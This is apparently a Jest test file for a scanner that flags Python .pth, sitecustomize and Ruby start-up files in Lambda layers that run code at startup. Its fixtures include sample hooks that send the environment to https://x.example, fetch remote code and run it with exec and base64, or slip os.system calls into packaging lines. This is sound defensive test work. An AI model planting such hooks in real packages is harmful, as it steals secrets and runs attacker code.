import {
  executableLines,
  PTH_BYTES,
  runtimeStartupHook,
} from '../../../../lambda/domain/inspection/runtime-startup-hook.js';
import { dir, file, view } from './entries.js';

const SITE = 'python/lib/python3.12/site-packages';

describe('runtime-startup-hook', () => {
  describe('.pth files', () => {
    it('applies site.py rule: only lines starting "import " or "import\\t" run', () => {
      expect(
        executableLines(
          '# import x\n  import y\n/opt/extra\nimport os; os.system("id")\nimport\tsys\nimportlib\n',
        ),
      ).toEqual(['import os; os.system("id")', 'import\tsys']);
      expect(executableLines('import x\r\n')).toEqual(['import x']);
    });

    it('wants the content of .pth files at the top of a Python directory, at most 64 KiB', () => {
      expect(runtimeStartupHook.wants(file(`${SITE}/evil.pth`, { size: 10 }))).toBe(PTH_BYTES);
      expect(runtimeStartupHook.wants(file('python/evil.pth'))).toBe(PTH_BYTES);
      expect(runtimeStartupHook.wants(file(`${SITE}/pkg/evil.pth`))).toBe(0);
      expect(runtimeStartupHook.wants(file('nodejs/evil.pth'))).toBe(0);
      expect(runtimeStartupHook.wants(dir('python/x.pth'))).toBe(0);
    });

    it('reports a .pth with an executable line', () => {
      const e = file(`${SITE}/zz-init.pth`, { size: 30 });
      const [s] = runtimeStartupHook.evaluate(view([e], { [e.path]: 'import os; os.system("curl x")\n' }));
      expect(s).toEqual(
        expect.objectContaining({ id: 'runtime-startup-hook', severity: 'high', path: e.path }),
      );
      expect(s?.reason).toContain('import os; os.system');
      expect(s?.reason).toMatch(/before the handler is imported/);
    });

    it('reports a .pth directly in /opt/python at medium: the runtime adds that directory to sys.path', () => {
      const e = file('python/zz-init.pth', { size: 30 });
      const [s] = runtimeStartupHook.evaluate(view([e], { [e.path]: 'import os\n' }));
      expect(s?.severity).toBe('medium');
      expect(s?.reason).toMatch(/if \/opt\/python is processed as a site directory/);
    });

    it('says when only the first bytes were read', () => {
      const e = file('python/big.pth', { size: PTH_BYTES * 2 });
      const [s] = runtimeStartupHook.evaluate(view([e], { [e.path]: 'import x\n' }));
      expect(s?.reason).toMatch(/first 9 of 131072 bytes read/);
    });

    it('reports the .pth lines packaging tools write at low, by their content', () => {
      const a = file(`${SITE}/distutils-precedence.pth`);
      const b = file(`${SITE}/google_api-1.0-py3.8-nspkg.pth`);
      const signals = runtimeStartupHook.evaluate(
        view([a, b], {
          [a.path]:
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
          [b.path]: 'import sys, types, os; (p not in mp) and mp.append(p)\n',
        }),
      );
      expect(signals.map((s) => s.severity)).toEqual(['low', 'low']);
    });

    const NSPKG =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";

    it.each([
      [
        'a namespace-package name that sends the environment out',
        'protobuf-4.25.3-py3.12-nspkg.pth',
        "import os, urllib.request; urllib.request.urlopen('https://x.example', data=repr(dict(os.environ)).encode())\n",
        'high',
      ],
      [
        'the namespace shape with one statement added',
        'google_api-nspkg.pth',
        NSPKG.replace('(p not in mp)', "__import__('os').system('id');(p not in mp)"),
        'high',
      ],
      [
        'the distutils name running something else',
        'distutils-precedence.pth',
        "import os; os.system('id')\n",
        'high',
      ],
      ['the namespace shape under any name', 'zz-anything.pth', NSPKG, 'low'],
      ['the namespace shape under its usual name', 'protobuf-4.25.3-py3.12-nspkg.pth', NSPKG, 'low'],
      [
        'the distutils shim',
        'distutils-precedence.pth',
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
        'low',
      ],
    ])('judges %s by its content (%s)', (_, name, content, severity) => {
      const e = file(`${SITE}/${name}`);
      const [s] = runtimeStartupHook.evaluate(view([e], { [e.path]: content }));
      expect(s?.severity).toBe(severity);
    });

    it('says nothing about a .pth of paths only, or one not read', () => {
      const a = file(`${SITE}/paths.pth`);
      const b = file(`${SITE}/unread.pth`);
      expect(
        runtimeStartupHook.evaluate(view([a, b], { [a.path]: '/opt/python/vendor\n# import x\n' })),
      ).toEqual([]);
    });
  });

  it.each([
    'python/sitecustomize.py',
    `${SITE}/sitecustomize.py`,
    `${SITE}/usercustomize.py`,
    'python/sitecustomize/__init__.py',
    'python/sitecustomize.pyc',
    `${SITE}/sitecustomize.cpython-312-x86_64-linux-gnu.so`,
  ])('reports %s at high', (path) => {
    expect(runtimeStartupHook.evaluate(view([file(path)]))).toEqual([
      expect.objectContaining({ id: 'runtime-startup-hook', severity: 'high', path }),
    ]);
  });

  it('reads a sitecustomize.py to say what it does, and rates it high whatever it does', () => {
    const e = file('python/sitecustomize.py');
    expect(runtimeStartupHook.wants(e)).toBe(PTH_BYTES);
    const [s] = runtimeStartupHook.evaluate(
      view([e], {
        [e.path]:
          "# harmless\nimport os, base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('https://x.example').read()))\n",
      }),
    );
    expect(s?.severity).toBe('high');
    expect(s?.reason).toMatch(
      /its code uses the network \(urllib\); decodes or evaluates data \(exec\(, base64\.b64decode\)/,
    );
  });

  it.each([
    'ruby/lib/rubygems.rb',
    'ruby/lib/rubygems/defaults/operating_system.rb',
    'ruby/lib/did_you_mean.rb',
    'ruby/lib/error_highlight.rb',
    'ruby/lib/syntax_suggest.rb',
  ])('reports the Ruby start-up file %s', (path) => {
    const [s] = runtimeStartupHook.evaluate(view([file(path)]));
    expect(s).toEqual(expect.objectContaining({ severity: 'high', path }));
    expect(s?.reason).toMatch(/RUBYLIB/);
  });

  it.each([
    'python/mypkg/sitecustomize.py',
    'python/sitecustomize_helper.py',
    'python/sitecustomize/util.py',
    'sitecustomize.py',
    'python/lib/python3.12/sitecustomize.py.bak',
    'ruby/lib/my_gem.rb',
    'ruby/gems/3.3.0/gems/x/lib/rubygems.rb',
    'nodejs/node_modules/x/index.js',
    'java/lib/agent.jar',
  ])('ignores %s', (path) => {
    expect(runtimeStartupHook.evaluate(view([file(path)]))).toEqual([]);
  });
});
